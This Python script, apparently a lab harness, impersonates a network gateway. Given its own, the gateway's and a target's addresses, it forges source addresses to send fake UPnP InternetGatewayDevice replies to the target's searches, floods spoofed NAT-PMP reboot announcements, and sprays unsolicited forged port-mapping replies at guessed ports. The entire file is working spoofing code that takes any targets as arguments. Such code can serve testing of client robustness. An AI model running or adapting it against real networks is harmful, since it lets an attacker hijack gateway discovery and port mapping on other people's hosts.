"""A host of the lab that poses as the gateway of its neighbours until SIGTERM; then tells what came of it.

gateway_poser.py OWN GATEWAY VICTIM
It answers searches for UPnP gateways, as itself and in the gateway's name, with a page of its own; sends
answers of NAT-PMP that nobody asked for; and announces reboots all the time.
"""

from __future__ import annotations

import contextlib
import json
import select
import signal
import socket
import struct
import sys
import time

GROUP, ALL_HOSTS = "239.255.255.250", "224.0.0.1"
IP_TRANSPARENT = 19
ANSWER = (
    "HTTP/1.1 200 OK\r\nST: urn:schemas-upnp-org:device:InternetGatewayDevice:{version}\r\n"
    "LOCATION: http://{host}:5000/rootDesc.xml\r\n\r\n"
)


def udp(host: str, port: int) -> socket.socket:
    """A socket with a source address of our choice."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    sock.bind((host, port))
    sock.setsockopt(socket.SOL_IP, socket.IP_MULTICAST_IF, socket.inet_aton(OWN))
    sock.setblocking(False)
    return sock


OWN, GATEWAY, VICTIM = sys.argv[1:]
web = socket.create_server((OWN, 5000))
web.setblocking(False)
heard = udp("0.0.0.0", 1900)
heard.setsockopt(socket.SOL_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton(OWN))
mine, forged = udp(OWN, 0), udp(GATEWAY, 1900)
forged_control, forged_announcer, announcer = udp(GATEWAY, 5351), udp(GATEWAY, 5350), udp(OWN, 5350)
counts = {"searches": 0, "connections": 0, "sent": 0}
going = True


def stop(*_: object) -> None:
    """SIGTERM."""
    global going
    going = False


def send(sock: socket.socket, data: bytes, to: tuple[str, int]) -> None:
    """Send, and count."""
    with contextlib.suppress(OSError):
        sock.sendto(data, to)
        counts["sent"] += 1


signal.signal(signal.SIGTERM, stop)
print("ready", flush=True)
turn = 0
until = time.monotonic() + 60
while going and time.monotonic() < until:
    readable, _, _ = select.select([heard, web], [], [], 0.01)
    if web in readable:
        with contextlib.suppress(OSError):
            web.accept()[0].close()
            counts["connections"] += 1
    if heard in readable:
        with contextlib.suppress(OSError):
            source = heard.recvfrom(4096)[1]
            if source[0] == VICTIM:
                counts["searches"] += 1
                for sock in (mine, forged):
                    for version in (1, 2):
                        for host in (OWN, "127.0.0.1"):
                            send(sock, ANSWER.format(version=version, host=host).encode(), source)
    turn += 1
    reboot = struct.pack("!BBHI", 0, 128, 0, turn % 7) + socket.inet_aton(OWN)
    send(announcer, reboot, (ALL_HOSTS, 5350))
    send(forged_announcer, reboot, (ALL_HOSTS, 5350))
    port = 32768 + turn * 37 % 28_000  # a guess
    mapped = struct.pack("!BBHIHHI", 0, 129, 0, 9, 40404, 40404, 3600)
    send(forged_control, mapped, (VICTIM, port))
print(json.dumps(counts), flush=True)
